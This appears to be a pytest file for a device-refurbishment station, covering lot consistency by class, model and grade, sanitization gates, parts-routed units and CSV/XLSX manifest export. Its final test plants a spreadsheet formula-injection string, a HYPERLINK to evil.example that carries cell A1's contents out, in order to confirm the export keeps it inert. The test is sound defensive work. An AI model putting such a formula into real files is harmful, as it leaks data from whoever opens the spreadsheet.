"""Lots: consistent class/model/grade by scan, warnings for misfits, the sanitization gate, manifests."""

from __future__ import annotations

import csv
import json
from pathlib import Path

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from station import grading, lot_manifest, lots, units
from station.errors import UserFacingError
from station.models import Event, Photo
from tests.grading.helpers import PHONE_B_PLUS, PHONE_REF, set_fields, unit


def _graded_phone(ctx, imei: str, model: str = "Pixel 7", answers: dict | None = None) -> str:  # type: ignore[no-untyped-def]
    with ctx.store.session() as s:
        uid = units.create(s, ctx.actor, {"imei": imei, "serial": f"S{imei[-6:]}"}, device_class="phone",
                           model=model, make="Google").uid
    grading.record(ctx, uid, answers or PHONE_B_PLUS)
    set_fields(ctx, uid, wipe_status="sanitized", certificate_id=f"CERT-{imei[-4:]}")
    return uid


def test_a_lot_takes_its_rule_from_the_first_unit_and_warns_on_misfits(ctx) -> None:
    lot = lots.create(ctx)
    assert lot.code.startswith("LOT-") and lot.rule == "any class / any model / any grade"
    first = _graded_phone(ctx, "356938035643809")
    added = lots.add(ctx, lot.code, "356938035643809")  # scanned by IMEI
    assert (added.unit_uid, added.lot.count, added.lot.rule) == (first, 1, "phone / Pixel 7 / B+")
    other_model = _graded_phone(ctx, "490154203237518", model="Pixel 8")
    worse = _graded_phone(ctx, "352099001761481", answers={**PHONE_B_PLUS, "housing": "scuffed"})
    with pytest.raises(lots.LotMismatch) as info:
        lots.add(ctx, lot.code, other_model)
    assert info.value.mismatches == ["model Pixel 8, lot takes Pixel 7"]
    with pytest.raises(lots.LotMismatch, match="grade C\\+, lot takes B\\+"):
        lots.add(ctx, lot.code, worse)
    forced = lots.add(ctx, lot.code, worse, force=True)
    assert forced.forced and forced.lot.count == 2
    with ctx.store.reader() as s:
        payloads = [json.loads(p) for p in s.execute(
            select(Event.payload).where(Event.kind == "lot.unit_added").order_by(Event.seq)).scalars()]
    assert [p["forced"] for p in payloads] == [False, True]
    assert payloads[1]["mismatches"] == ["grade C+, lot takes B+"]


def test_units_that_may_not_go_into_a_lot_are_refused(ctx) -> None:
    lot = lots.create(ctx, "LOT-TEST-1", device_class="phone", grade="B+")
    uid = unit(ctx, "phone", "Pixel 7")
    with pytest.raises(UserFacingError, match="no grade yet"):
        lots.add(ctx, lot.code, uid)
    grading.record(ctx, uid, PHONE_B_PLUS)
    with pytest.raises(UserFacingError, match="sanitization has not passed"):
        lots.add(ctx, lot.code, uid)
    set_fields(ctx, uid, wipe_status="sanitized")
    lots.add(ctx, lot.code, uid)
    with pytest.raises(UserFacingError, match="already in lot LOT-TEST-1"):
        lots.add(ctx, lot.code, uid)
    second = lots.create(ctx, "LOT-TEST-2")
    with pytest.raises(UserFacingError, match="already in lot LOT-TEST-1; remove it there first"):
        lots.add(ctx, second.code, uid)
    assert lots.remove(ctx, lot.code, uid).count == 0
    lots.add(ctx, second.code, uid)
    lots.close(ctx, second.code)
    with pytest.raises(UserFacingError, match="is closed"):
        lots.add(ctx, second.code, uid)
    with pytest.raises(UserFacingError, match="does not look like a lot label"):
        lots.create(ctx, "pallet seven")
    with pytest.raises(UserFacingError, match="already exists"):
        lots.create(ctx, "lot-test-1")
    with pytest.raises(UserFacingError, match="There is no lot 'LOT-NOPE'"):
        lots.add(ctx, "LOT-NOPE", uid)


def test_manifest_csv_and_xlsx_carry_identifiers_grades_wipe_certificate_and_photos(ctx, tmp_path: Path) -> None:
    lot = lots.create(ctx, "LOT-MANIFEST-1")
    uids = [_graded_phone(ctx, imei) for imei in ("356938035643809", "490154203237518")]
    with ctx.store.session() as s:
        u = units.by_uid(s, uids[0])
        units.add_identifier(s, u, "asset", "AT-0042")
        for shot in ("front", "back", "edge_left"):
            s.add(Photo(unit_id=u.id, sha256=shot * 8, stage="intake", shot=shot, width=1, height=1, quality="{}",
                        created_at="2026-01-01T00:00:00.000000Z"))
    for uid in uids:
        lots.add(ctx, lot.code, uid)
    m = lot_manifest.export(ctx, lot.code, "csv", tmp_path / "m.csv")
    assert len(m.rows) == 2
    with (tmp_path / "m.csv").open(newline="") as fh:
        rows = list(csv.DictReader(fh))
    assert [r["Unit"] for r in rows] == uids
    first = rows[0]
    assert (first["IMEI"], first["Serial"]) == ("356938035643809", "S643809")
    assert first["Other identifiers"] == "asset:AT-0042"
    assert (first["Sale grade"], first["Cosmetic"], first["Functional"]) == ("B+", "B", "FF")
    assert (first["Wipe result"], first["Certificate"], first["Photos"]) == ("sanitized", "CERT-3809", "3")
    assert first["Grading matrix"] == PHONE_REF and rows[1]["Photos"] == "0"
    disclosed = (first["Defects"], first["Lock status"], first["Hold"], first["R2v3 REC"])
    assert disclosed == ("none", "clear", "", "F5 / C5")

    lot_manifest.export(ctx, lot.code, "xlsx", tmp_path / "m.xlsx")
    wb = load_workbook(tmp_path / "m.xlsx")
    ws = wb["Manifest"]
    header = [c.value for c in ws[1]]
    assert header == [title for _, title in lot_manifest.COLUMNS]
    assert ws.freeze_panes == "A2" and ws.auto_filter.ref == f"A1:V{len(uids) + 1}"
    values = [[c.value for c in row] for row in ws.iter_rows(min_row=2)]
    assert [v[header.index("Unit")] for v in values] == uids
    assert values[0][header.index("Photos")] == 3  # typed, not text
    assert {r[0].value: r[1].value for r in wb["Lot"].iter_rows()}["Units"] == 2
    with pytest.raises(UserFacingError, match="not a manifest format"):
        lot_manifest.export(ctx, lot.code, "pdf", tmp_path / "m.pdf")


# -- Audited lot cases (issue 27): "-" merged functional defects and not functional, FRP phones sat in
# an A- lot whose manifest showed no defects, and units routed to harvest parts entered sale lots.
A_MINUS_CAMERA = {**PHONE_B_PLUS, "glass": "flawless", "tests": "failed", "touch_buttons": "ok", "cameras": "fail",
                  "audio": "ok", "radios": "ok", "charging": "ok"}


def test_a_lot_is_consistent_on_functional_level_and_defects_not_only_the_letter(ctx) -> None:
    lot = lots.create(ctx, "LOT-TEST-FD")
    camera = _graded_phone(ctx, "356938035643809", answers=A_MINUS_CAMERA)
    lots.add(ctx, lot.code, camera)
    audio = _graded_phone(ctx, "490154203237518", answers={**A_MINUS_CAMERA, "cameras": "ok", "audio": "fail"})
    with pytest.raises(lots.LotMismatch) as info:
        lots.add(ctx, lot.code, audio)  # same "A-", other defects
    assert info.value.mismatches == ["defects audio, lot has camera"]


@pytest.mark.parametrize(("_case", "answers", "route", "words"), [
    ("not functional under the same A- letter", {"power": "no", "glass": "flawless", "housing": "flawless",
                                                  "liquid": "clean"}, None, "does not power on"),
    ("FRP-locked", {**A_MINUS_CAMERA, "cameras": "ok", "locks": "account"}, None, "account-locked"),
    ("locks not checked", {**PHONE_B_PLUS, "locks": "not_checked"}, None, "were not checked"),
    ("routed to harvest parts", A_MINUS_CAMERA, "harvest_parts", "routed to harvest parts"),
    ("routed to recycle", A_MINUS_CAMERA, "recycle", "routed to recycle"),
])
def test_held_or_parts_units_never_enter_a_sale_lot_even_forced(ctx, _case: str, answers: dict, route: str | None,
                                                                 words: str) -> None:
    lot = lots.create(ctx, "LOT-TEST-HOLD")
    uid = _graded_phone(ctx, "352099001761481", answers=answers)
    if route:
        set_fields(ctx, uid, route=route)
    with pytest.raises(UserFacingError, match=words):
        lots.add(ctx, lot.code, uid, force=True)
    assert lots.info(ctx, lot.code).count == 0


def test_an_other_item_that_can_hold_data_is_data_bearing(ctx) -> None:
    """Audit: DATA_BEARING left out 'other', so an unwiped smartwatch went to return-to-stock."""
    from station import disposition

    watch = unit(ctx, "other", "Watch 5")
    grading.record(ctx, watch, {"power": "works", "condition": "new", "complete": "complete", "storage": "yes"})
    with pytest.raises(UserFacingError, match="sanitization has not passed"):
        disposition.assign(ctx, watch)
    unsure = unit(ctx, "other", "Gadget")
    grading.record(ctx, unsure, {"power": "works", "condition": "new", "complete": "complete", "storage": "unknown"})
    with pytest.raises(UserFacingError, match="sanitization has not passed"):
        disposition.assign(ctx, unsure)
    dock = unit(ctx, "other", "Dock")
    grading.record(ctx, dock, {"power": "works", "condition": "new", "complete": "complete", "storage": "none"})
    assert disposition.assign(ctx, dock).route == "return_to_stock"


def test_manifest_free_text_never_becomes_a_live_formula(ctx, tmp_path: Path) -> None:
    # A buyer opens the manifest in a spreadsheet: a model typed at intake must stay text.
    hostile = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
    lot = lots.create(ctx, "LOT-HOSTILE-1")
    uid = _graded_phone(ctx, "356938035643809", model=hostile)
    lots.add(ctx, lot.code, uid)
    lot_manifest.export(ctx, lot.code, "csv", tmp_path / "m.csv")
    with (tmp_path / "m.csv").open(newline="") as fh:
        row = next(csv.DictReader(fh))
    assert row["Model"] == "'" + hostile  # OWASP's leading apostrophe
    assert row["Expected value"] == "" or not row["Expected value"].startswith("'")  # numbers are not touched

    lot_manifest.export(ctx, lot.code, "xlsx", tmp_path / "m.xlsx")
    ws = load_workbook(tmp_path / "m.xlsx")["Manifest"]
    header = [c.value for c in ws[1]]
    model = ws.cell(2, header.index("Model") + 1)
    assert (model.value, model.data_type) == (hostile, "s")
    assert not any(c.data_type == "f" for row in ws.iter_rows() for c in row)
